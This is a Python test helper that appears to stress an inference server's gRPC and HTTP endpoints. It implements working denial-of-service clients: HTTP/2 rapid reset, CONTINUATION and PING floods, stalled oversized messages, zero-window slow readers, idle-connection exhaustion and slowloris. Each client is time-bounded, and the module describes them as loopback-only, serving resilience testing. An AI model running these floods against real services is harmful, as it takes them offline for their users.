"""Abusive clients for tests/test_attacks.py, each bounded in count and time, loopback only. Run
in their own process, so that their loops do not hold the measuring client's GIL:

    python -m tests.attackers ATTACK HOST:PORT SECONDS

prints "ready" once the attack is underway, then one JSON line of what it did, and exits.
"""

from __future__ import annotations

import contextlib
import json
import resource
import socket
import sys
import time
from collections.abc import Callable

from tests.h2_wire import Wire, grpc_frame, grpc_prefix

INFER = "/inference.GRPCInferenceService/ModelInfer"


def ready() -> None:
    print("ready", flush=True)


def infer_request(model: str = "identity_fp32") -> bytes:
    """A valid ModelInferRequest for identity_fp32, [1, 16] FP32 zeros."""
    from tritonclient.grpc import service_pb2

    request = service_pb2.ModelInferRequest(model_name=model)
    tensor = request.inputs.add(name="INPUT0", datatype="FP32", shape=[1, 16])
    del tensor
    request.raw_input_contents.append(b"\x00" * 64)
    return request.SerializeToString()


def _reconnecting(port: int, seconds: float, one: Callable[[Wire], int]) -> dict[str, int]:
    """Runs `one(wire)` on fresh connections until time is up; `one` returns what it sent and
    raises OSError once the server closed the connection."""
    deadline = time.monotonic() + seconds
    sent = connections = 0
    first = True
    while time.monotonic() < deadline:
        wire = Wire(port)
        connections += 1
        if first:
            ready()
            first = False
        try:
            while time.monotonic() < deadline:
                sent += one(wire)
        except OSError:
            pass
        finally:
            wire.close()
    return {"connections": connections, "sent": sent}


def rapid_reset(port: int, seconds: float) -> dict[str, int]:
    """HEADERS + RST_STREAM pairs, 500 per write, on as many connections as it takes."""

    def one(wire: Wire) -> int:
        frames = []
        for _ in range(500):
            stream_id, headers = wire.headers(INFER)
            frames += [headers, wire.rst(stream_id)]
        wire.send(*frames)
        return 500

    return _reconnecting(port, seconds, one)


def continuation_flood(port: int, seconds: float) -> dict[str, int]:
    """A header block that never ends: HEADERS, then CONTINUATION frames, 100 per write."""

    def one(wire: Wire) -> int:
        stream_id, headers = wire.headers(INFER, end_headers=False)
        filler = wire.encoder.encode([("x-filler", "f" * 4000)])
        wire.send(headers, *[wire.continuation(stream_id, filler) for _ in range(100)])
        return 100  # the next call's HEADERS, in the middle of this block, is an error too

    return _reconnecting(port, seconds, one)


def ping_flood(port: int, seconds: float) -> dict[str, int]:
    """PINGs, 100 per write, with no call in flight."""

    def one(wire: Wire) -> int:
        wire.send(*[wire.ping(i.to_bytes(8, "big")) for i in range(100)])
        return 100

    return _reconnecting(port, seconds, one)


def stalled_messages(port: int, seconds: float, count: int = 64) -> dict[str, int]:
    """`count` connections each declare a 64 MB ModelInfer message, send what the server takes
    of its first 8 MiB within 3 s (without blocking), then stall until time is up."""
    wires = [Wire(port) for _ in range(count)]
    body = b"\x00" * (8 << 20)
    pending: list[tuple[Wire, bytes]] = []
    for wire in wires:  # a compliant client: it waits for the 16 MiB windows it may use
        wire.pump(lambda w=wire: w.send_window >= len(body) and w.stream_window_initial >= 1 << 24)
        stream_id, headers = wire.headers(INFER)
        wire.send(headers)
        frames = wire.data(stream_id, grpc_prefix(64_000_000) + body)
        pending.append((wire, b"".join(f.serialize() for f in frames)))
        wire.sock.setblocking(False)
    sent = 0
    until = time.monotonic() + 3.0
    while pending and time.monotonic() < until:
        still = []
        for wire, data in pending:
            try:
                n = wire.sock.send(data[:256 << 10])
            except BlockingIOError:
                n = 0
            except OSError:
                continue
            sent += n
            if n < len(data):
                still.append((wire, data[n:]))
        pending = still
    ready()
    time.sleep(seconds)
    for wire in wires:
        wire.close()
    return {"connections": count, "sent": sent}


def slow_readers(port: int, seconds: float, count: int = 16, calls: int = 100) -> dict[str, int]:
    """`count` connections that announce a window of 0 and send `calls` valid requests each:
    the answers can never be sent. They read nothing until time is up."""
    message = grpc_frame(infer_request())
    wires = [Wire(port, settings={0x4: 0}) for _ in range(count)]  # INITIAL_WINDOW_SIZE
    for wire in wires:
        frames = []
        for _ in range(calls):
            stream_id, headers = wire.headers(INFER)
            frames += [headers, *wire.data(stream_id, message, end_stream=True)]
        wire.send(*frames)
    ready()
    time.sleep(seconds)
    for wire in wires:
        wire.close()
    return {"connections": count, "sent": count * calls}


def idle_connections(port: int, seconds: float, count: int = 2000) -> dict[str, int]:
    """`count` HTTP/2 connections that send their preface and SETTINGS, then nothing."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < count + 100:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 100), hard))
    wires = [Wire(port) for _ in range(count)]
    ready()
    time.sleep(seconds)
    for wire in wires:
        wire.close()
    return {"connections": count, "sent": 0}


def slowloris(port: int, seconds: float, count: int = 200) -> dict[str, int]:
    """`count` HTTP/1.1 connections whose request headers trickle in, a byte per connection
    every 50 ms, never complete."""
    socks = [socket.create_connection(("127.0.0.1", port), timeout=5) for _ in range(count)]
    for sock in socks:
        sock.sendall(b"POST /v2/models/identity_fp32/infer HTTP/1.1\r\nHost: x\r\nX-Slow: ")
    ready()
    sent = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for sock in socks:
            with contextlib.suppress(OSError):
                sock.sendall(b"a")
                sent += 1
        time.sleep(0.05)
    for sock in socks:
        sock.close()
    return {"connections": count, "sent": sent}


ATTACKS: dict[str, Callable[[int, float], dict[str, int]]] = {
    f.__name__: f
    for f in (rapid_reset, continuation_flood, ping_flood, stalled_messages, slow_readers,
              idle_connections, slowloris)
}


def main() -> None:
    name, address, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    port = int(address.rpartition(":")[2])
    result = ATTACKS[name](port, seconds)
    print(json.dumps({"attack": name, **result}), flush=True)


if __name__ == "__main__":
    main()
